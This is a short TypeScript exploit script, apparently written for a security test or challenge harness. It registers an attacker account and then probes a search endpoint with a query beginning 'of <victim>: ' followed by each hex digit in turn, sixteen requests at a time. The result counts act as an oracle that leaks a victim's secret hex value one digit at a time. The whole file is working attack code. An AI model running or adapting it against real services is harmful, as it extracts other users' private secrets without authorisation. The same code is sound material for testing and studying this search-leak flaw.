import { type Client, exploit } from '#attack';

const digits = [...'0123456789abcdef'];

/** Sixteen searches at the same time for each digit, until no digit fits any more. */
export default exploit(async ({ target, victim }) => {
  const attacker = target.client();
  const key = await keyOf(attacker, `eve${process.hrtime.bigint()}@example.org`);
  let found = `of ${victim}: `;
  const begin = found.length;
  for (;;) {
    const counts = await target.together(16, (index) => count(attacker, key, found + digits[index]));
    const hit = counts.findIndex((total) => total > 0);
    if (hit < 0) break;
    found += digits[hit];
  }
  return found.length > begin ? found.slice(begin) : undefined;
});

async function keyOf(client: Client, email: string): Promise<string> {
  return (await client.post('/accounts', { email })).body.key;
}

async function count(client: Client, key: string, words: string): Promise<number> {
  const response = await client.get(`/posts?${new URLSearchParams({ q: words })}`, {
    headers: { 'X-Account-Key': key },
  });
  return response.body.total;
}
